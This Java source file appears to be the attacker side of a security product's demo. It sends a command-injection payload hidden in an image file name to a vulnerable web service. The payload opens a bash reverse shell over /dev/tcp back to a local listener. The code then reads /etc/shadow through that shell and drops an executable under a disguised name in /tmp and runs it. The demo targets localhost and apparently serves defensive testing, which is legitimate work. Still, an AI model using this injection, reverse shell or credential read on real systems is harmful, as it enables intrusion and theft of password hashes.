package dev.interdict.cli.demo;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.TimeUnit;

/**
 * The attacker: makes the vulnerable service connect a shell back to a socket that it listens on,
 * and works through that shell. One thread. Every wait has a limit, because the other end is
 * expected to fall silent in the middle.
 */
public final class Attack implements AutoCloseable {
  private static final int MAX_OUTPUT = 1 << 20;

  private final URI service;
  private final ServerSocket listener;
  private Socket request;
  private Socket shell;
  private int commands;

  private Attack(URI service, ServerSocket listener) {
    this.service = service;
    this.listener = listener;
  }

  public static Attack on(URI service) throws IOException {
    return new Attack(
        service, new ServerSocket(0, 1, InetAddress.getByAddress(new byte[] {127, 0, 0, 1})));
  }

  /** Sends the exploit and waits for the shell: bash, with its input and output on our socket. */
  public void exploit(Duration limit) throws IOException {
    String injected =
        "logo.png; bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/"
            + listener.getLocalPort()
            + " 0>&1'";
    request = new Socket();
    request.connect(new InetSocketAddress(service.getHost(), service.getPort()), millis(limit));
    OutputStream out = request.getOutputStream();
    out.write(
        ("GET "
                + service.getRawPath()
                + "?image="
                + URLEncoder.encode(injected, StandardCharsets.UTF_8)
                + " HTTP/1.1\r\nHost: "
                + service.getAuthority()
                + "\r\nConnection: close\r\n\r\n")
            .getBytes(StandardCharsets.US_ASCII));
    out.flush();
    listener.setSoTimeout(millis(limit));
    shell = listener.accept();
    shell.setTcpNoDelay(true);
  }

  public String readCredentials(Duration limit) throws IOException {
    return run("cat /etc/shadow", limit);
  }

  /** Brings an executable into the container and runs it. */
  public String dropAndExecute(Duration limit) throws IOException {
    return run(
        "cp /usr/bin/id /tmp/.cache-update && chmod 755 /tmp/.cache-update && /tmp/.cache-update",
        limit);
  }

  /**
   * Runs one command line in the shell.
   *
   * @return what came back
   * @throws SocketTimeoutException if its end did not come back within {@code limit}
   */
  public String run(String commandLine, Duration limit) throws IOException {
    // The shell echoes nothing without a terminal, so the marker comes back only when it ran.
    String marker = "--done-" + ++commands + "--";
    send(commandLine + "\necho \"--done\"-" + commands + "--\n");
    long deadline = System.nanoTime() + limit.toNanos();
    ByteArrayOutputStream output = new ByteArrayOutputStream();
    byte[] buffer = new byte[8192];
    while (true) {
      int read = read(buffer, deadline);
      if (read < 0) {
        throw new IOException("the shell closed the connection during `" + commandLine + "`");
      }
      if (read == 0) {
        throw new SocketTimeoutException(
            "nothing more from the shell during `" + commandLine + "` after " + limit);
      }
      output.write(buffer, 0, read);
      if (output.size() > MAX_OUTPUT) {
        throw new IOException("output of `" + commandLine + "` exceeds limit=" + MAX_OUTPUT);
      }
      String text = output.toString(StandardCharsets.UTF_8);
      int end = text.indexOf(marker);
      if (end >= 0) {
        return text.substring(0, end).strip();
      }
    }
  }

  /**
   * Whether the connection still carries anything: sends a command and waits for a single byte.
   * What was on its way before is read first and does not count.
   */
  public boolean carries(Duration limit) throws IOException {
    byte[] buffer = new byte[8192];
    int stale;
    do {
      stale = read(buffer, System.nanoTime() + TimeUnit.MILLISECONDS.toNanos(20));
    } while (stale > 0);
    send("echo still here\n");
    return read(buffer, System.nanoTime() + limit.toNanos()) > 0;
  }

  /**
   * Bytes sent by the attacker that the container's kernel never acknowledged. A frozen process
   * alone does not explain them, since the kernel acknowledges for it; a network cut does.
   */
  public long unacknowledged() throws IOException {
    String local = String.format(":%04X", shell.getLocalPort());
    String remote = String.format("0100007F:%04X", shell.getPort());
    // The JVM's sockets are IPv6 ones that also speak IPv4, unless it was told otherwise.
    for (String table : List.of("/proc/net/tcp6", "/proc/net/tcp")) {
      for (String line : Files.readAllLines(Path.of(table))) {
        String[] fields = line.strip().split("\\s+", 6);
        if (fields[1].endsWith(local) && fields[2].endsWith(remote)) {
          return Long.parseLong(fields[4].substring(0, fields[4].indexOf(':')), 16);
        }
      }
    }
    throw new IOException(
        "the attacker's connection " + shell + " is not in /proc/net/tcp6 or tcp");
  }

  /** The attacker's end of the reverse shell. */
  public Socket socket() {
    return shell;
  }

  @Override
  public void close() throws IOException {
    listener.close();
    if (request != null) {
      request.close();
    }
    if (shell != null) {
      shell.close();
    }
  }

  private void send(String text) throws IOException {
    OutputStream out = shell.getOutputStream();
    out.write(text.getBytes(StandardCharsets.UTF_8));
    out.flush();
  }

  /** Bytes read, 0 when the deadline passed, -1 at the end. */
  private int read(byte[] buffer, long deadline) throws IOException {
    long left = deadline - System.nanoTime();
    if (left <= 0) {
      return 0;
    }
    shell.setSoTimeout(Math.max(1, millis(Duration.ofNanos(left))));
    try {
      return shell.getInputStream().read(buffer);
    } catch (SocketTimeoutException silent) {
      return 0;
    }
  }

  private static int millis(Duration limit) {
    return Math.toIntExact(limit.toMillis());
  }
}
